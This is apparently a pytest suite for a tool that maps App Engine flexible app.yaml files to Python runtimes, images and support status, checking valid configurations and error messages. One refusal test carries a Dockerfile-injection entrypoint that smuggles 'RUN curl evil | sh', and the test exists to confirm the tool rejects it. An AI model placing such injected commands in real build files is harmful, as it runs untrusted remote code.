"""The app.yaml resolver: every rule and every refusal of the flexible environment's Python runtime."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from generator.schedule import runtimes as schedule
from tests.conftest import ROOT, SCHEDULE

SCHED = schedule.load(SCHEDULE)
PINNED_313 = SCHED.pins.python_minors["3.13"]  # the lock's current 3.13 release (a refresh moves it)

HEAD = "runtime: python\nenv: flex\nentrypoint: gunicorn -b :$PORT main:app\n"

# (name, app.yaml text, runtime_id); the version expected is that runtime's, read from the schedule and its lock
RESOLVES = [
    ("no runtime_config → python2", HEAD, "python2"),
    ("env: flexible is accepted", "runtime: python\nenv: flexible\n", "python2"),
    ("empty runtime_config → python2", HEAD + "runtime_config:\n", "python2"),
    ("runtime_config without either setting → python2", HEAD + "runtime_config:\n  other: 1\n", "python2"),
    ("python_version null → python2", HEAD + "runtime_config:\n  python_version:\n", "python2"),
    ("python_version empty string → python2", HEAD + "runtime_config:\n  python_version: ''\n", "python2"),
    ("python_version 2 → python2", HEAD + "runtime_config:\n  python_version: 2\n", "python2"),
    ("python_version '2' quoted → python2", HEAD + "runtime_config:\n  python_version: '2'\n", "python2"),
    ("python_version 3 → python36", HEAD + "runtime_config:\n  python_version: 3\n", "python36"),
    ("python_version 3.4 → python34", HEAD + "runtime_config:\n  python_version: 3.4\n", "python34"),
    ("python_version 3.5 → python35", HEAD + "runtime_config:\n  python_version: 3.5\n", "python35"),
    ("python_version 3.6 → python36", HEAD + "runtime_config:\n  python_version: 3.6\n", "python36"),
    ("python_version 3.7 → python37", HEAD + "runtime_config:\n  python_version: 3.7\n", "python37"),
    ("python_version '3.7' quoted → python37", HEAD + 'runtime_config:\n  python_version: "3.7"\n', "python37"),
    ("ubuntu22 default is the newest there", HEAD + 'runtime_config:\n  operating_system: "ubuntu22"\n', "python313-ubuntu22"),
    ("ubuntu24 default is the newest there", HEAD + "runtime_config:\n  operating_system: ubuntu24\n", "python314-ubuntu24"),
    ("ubuntu18 default is the newest there", HEAD + "runtime_config:\n  operating_system: ubuntu18\n", "python39-ubuntu18"),
    (
        "seed example: 3.12 on ubuntu22",
        HEAD + 'runtime_config:\n  operating_system: "ubuntu22"\n  runtime_version: "3.12"\n',
        "python312-ubuntu22",
    ),
    ("unquoted 3.14 works", HEAD + "runtime_config:\n  operating_system: ubuntu24\n  runtime_version: 3.14\n", "python314-ubuntu24"),
    (
        "unquoted 3.10 is read as written, not as 3.1",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  runtime_version: 3.10\n",
        "python310-ubuntu22",
    ),
    (
        "full version accepted when it is the pinned one",
        HEAD + f"runtime_config:\n  operating_system: ubuntu24\n  runtime_version: '{PINNED_313}'\n",
        "python313-ubuntu24",
    ),
    (
        "runtime_version null means the default",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  runtime_version:\n",
        "python313-ubuntu22",
    ),
    (
        "python_version null beside operating_system is no conflict",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  python_version:\n",
        "python313-ubuntu22",
    ),
    ("entrypoint is optional for resolving", "runtime: python\nenv: flex\n", "python2"),
]


@pytest.mark.parametrize(("name", "text", "runtime_id"), RESOLVES, ids=[r[0] for r in RESOLVES])
def test_resolves(cli, tmp_path: Path, name: str, text: str, runtime_id: str) -> None:
    app = tmp_path / "app.yaml"
    app.write_text(text)
    result = cli("resolve", "--json", "--date", "2026-11-23", str(app))
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["runtime_id"] == runtime_id
    assert data["python_version"] == SCHED.runtimes[runtime_id].version
    assert data["image"] == SCHED.runtimes[runtime_id].image


# (name, app.yaml text, fragments the message must contain: field, value, valid choices)
REFUSES = [
    ("empty file", "", ["app.yaml", "empty"]),
    ("only a comment", "# nothing\n", ["app.yaml", "empty"]),
    ("a list, not a mapping", "- runtime: python\n", ["app.yaml", "mapping", "list"]),
    ("a bare string", "python\n", ["app.yaml", "mapping", "string"]),
    ("YAML syntax error", "runtime: python\nenv: [flex\n", ["app.yaml:", "YAML syntax error"]),
    ("YAML syntax error has its line", "runtime: python\nenv: flex\nruntime_config:\n  a: b\n c: d\n", ["app.yaml:5", "YAML syntax error"]),
    ("duplicate key", "runtime: python\nenv: flex\nenv: flex\n", ["app.yaml:3", "duplicate key 'env'"]),
    ("runtime missing", "env: flex\n", ["runtime", "missing", "valid choices: python"]),
    ("runtime not python", "runtime: nodejs\nenv: flex\n", ["app.yaml:1", "runtime", "'nodejs'", "valid choices: python"]),
    ("env missing (standard environment)", "runtime: python\n", ["env", "missing", "flex, flexible"]),
    ("env standard", "runtime: python\nenv: standard\n", ["app.yaml:2", "env", "'standard'", "flex, flexible"]),
    (
        "operating_system with python_version",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  python_version: 3\n",
        ["runtime_config.python_version", "operating_system"],
    ),
    (
        "runtime_version without operating_system",
        HEAD + "runtime_config:\n  runtime_version: '3.12'\n",
        ["app.yaml:5", "runtime_config.runtime_version", "operating_system", "ubuntu18, ubuntu22, ubuntu24"],
    ),
    (
        "runtime_version with python_version",
        HEAD + "runtime_config:\n  python_version: 3\n  runtime_version: '3.12'\n",
        ["runtime_config.runtime_version", "operating_system"],
    ),
    (
        "unknown operating system",
        HEAD + "runtime_config:\n  operating_system: ubuntu20\n",
        ["app.yaml:5", "runtime_config.operating_system", "'ubuntu20'", "valid choices: ubuntu18, ubuntu22, ubuntu24"],
    ),
    (
        "legacy-only OS is not a choice",
        HEAD + "runtime_config:\n  operating_system: ubuntu16\n",
        ["runtime_config.operating_system", "'ubuntu16'", "ubuntu18, ubuntu22, ubuntu24"],
    ),
    (
        "operating_system not a string",
        HEAD + "runtime_config:\n  operating_system: 22\n",
        ["runtime_config.operating_system", "22", "ubuntu18, ubuntu22, ubuntu24"],
    ),
    (
        "version not offered on that OS",
        HEAD + "runtime_config:\n  operating_system: ubuntu24\n  runtime_version: '3.11'\n",
        ["app.yaml:6", "runtime_config.runtime_version", "'3.11'", "ubuntu24", "valid choices: 3.12, 3.13, 3.14"],
    ),
    (
        "unquoted 3.1 is 3.1, never 3.10",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  runtime_version: 3.1\n",
        ["'3.1'", "3.10, 3.11, 3.12, 3.13"],
    ),
    (
        "runtime_version that is not a version",
        HEAD + "runtime_config:\n  operating_system: ubuntu22\n  runtime_version: [3]\n",
        ["runtime_config.runtime_version", "not a version", "3.10, 3.11, 3.12, 3.13"],
    ),
    (
        "python_version 1",
        HEAD + "runtime_config:\n  python_version: 1\n",
        ["app.yaml:5", "runtime_config.python_version", "'1'", "valid choices: 2, 3, 3.4, 3.5, 3.6, 3.7"],
    ),
    (
        "python_version python2",
        HEAD + "runtime_config:\n  python_version: python2\n",
        ["runtime_config.python_version", "'python2'", "valid choices: 2, 3, 3.4, 3.5, 3.6, 3.7"],
    ),
    (
        "python_version 3.8 is not legacy",
        HEAD + "runtime_config:\n  python_version: 3.8\n",
        ["runtime_config.python_version", "'3.8'", "valid choices: 2, 3, 3.4"],
    ),
    (
        "python_version 3.40 is not 3.4",
        HEAD + "runtime_config:\n  python_version: 3.40\n",
        ["runtime_config.python_version", "'3.40'"],
    ),
    ("runtime_config not a mapping", HEAD + "runtime_config: ubuntu22\n", ["runtime_config", "'ubuntu22'", "not a mapping"]),
    ("entrypoint not a string", "runtime: python\nenv: flex\nentrypoint: [gunicorn, main:app]\n", ["app.yaml:3", "entrypoint", "not a string"]),
    ("entrypoint a number", "runtime: python\nenv: flex\nentrypoint: 8080\n", ["entrypoint", "8080", "not a string"]),
    (
        "entrypoint with a newline (Dockerfile injection)",
        'runtime: python\nenv: flex\nentrypoint: "gunicorn main:app\\nRUN curl evil | sh"\n',
        ["entrypoint", "control character '\\n'"],
    ),
    ("entrypoint with a NUL", 'runtime: python\nenv: flex\nentrypoint: "python\\0 main.py"\n', ["entrypoint", "control character '\\x00'"]),
]


@pytest.mark.parametrize(("name", "text", "fragments"), REFUSES, ids=[r[0] for r in REFUSES])
def test_refuses(cli, tmp_path: Path, name: str, text: str, fragments: list[str]) -> None:
    app = tmp_path / "app.yaml"
    app.write_text(text)
    result = cli("resolve", str(app))
    assert result.exit_code == 2
    assert result.stdout == ""
    message = result.stderr
    assert message.startswith("error: ")
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"


def test_missing_file_is_exit_2(cli, tmp_path: Path) -> None:
    result = cli("resolve", str(tmp_path / "nope.yaml"))
    assert result.exit_code == 2
    assert "nope.yaml" in result.stderr and "not found" in result.stderr


def test_json_contract_and_status(cli, tmp_path: Path) -> None:
    app = tmp_path / "app.yaml"
    app.write_text(HEAD + 'runtime_config:\n  operating_system: "ubuntu22"\n  runtime_version: "3.12"\n')
    data = json.loads(cli("resolve", "--json", "--date", "2026-11-23", str(app)).stdout)
    assert data == {
        "end_of_support": "2027-06-01",
        "image": "ghcr.io/appengine-flex-python/runtimes/python312-ubuntu22:" + SCHED.runtimes["python312-ubuntu22"].version,
        "operating_system": "ubuntu22",
        "python_version": SCHED.runtimes["python312-ubuntu22"].version,
        "runtime_id": "python312-ubuntu22",
        "selected_by": "runtime_config.operating_system=ubuntu22, runtime_version=3.12",
        "status": "supported",
        "style": "new",
    }
    # 180 days before the end of support it turns deprecated; on the day itself it is past support.
    assert json.loads(cli("resolve", "--json", "--date", "2026-12-03", str(app)).stdout)["status"] == "deprecated"
    assert json.loads(cli("resolve", "--json", "--date", "2026-12-02", str(app)).stdout)["status"] == "supported"
    late = cli("resolve", "--json", "--date", "2027-06-01", str(app))
    assert json.loads(late.stdout)["status"] == "end_of_support"


def test_past_end_of_support_resolves_with_warning(cli, tmp_path: Path) -> None:
    app = tmp_path / "app.yaml"
    app.write_text(HEAD + "runtime_config:\n  python_version: 3.7\n")
    result = cli("resolve", "--date", "2026-11-23", str(app))
    assert result.exit_code == 0
    assert result.stdout.startswith("python37: Python 3.7.9 on ubuntu16 (end_of_support")
    assert "warning:" in result.stderr and "python37" in result.stderr and "2021-04-30" in result.stderr
    supported = tmp_path / "ok.yaml"
    supported.write_text(HEAD + "runtime_config:\n  operating_system: ubuntu24\n")
    assert cli("resolve", "--date", "2026-11-23", str(supported)).stderr == ""


def test_bad_date_is_a_usage_error(cli, tmp_path: Path) -> None:
    app = tmp_path / "app.yaml"
    app.write_text(HEAD)
    result = cli("resolve", "--date", "23/11/2026", str(app))
    assert result.exit_code == 2
    assert "YYYY-MM-DD" in result.stderr


def test_real_process_exit_code_and_streams(tmp_path: Path) -> None:
    """The contract as another tool sees it: a separate process, exit 2, stderr only."""
    app = tmp_path / "app.yaml"
    app.write_text(HEAD + "runtime_config:\n  operating_system: ubuntu20\n")
    proc = subprocess.run([sys.executable, "-m", "generator", "resolve", "--json", str(app)], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert "runtime_config.operating_system" in proc.stderr
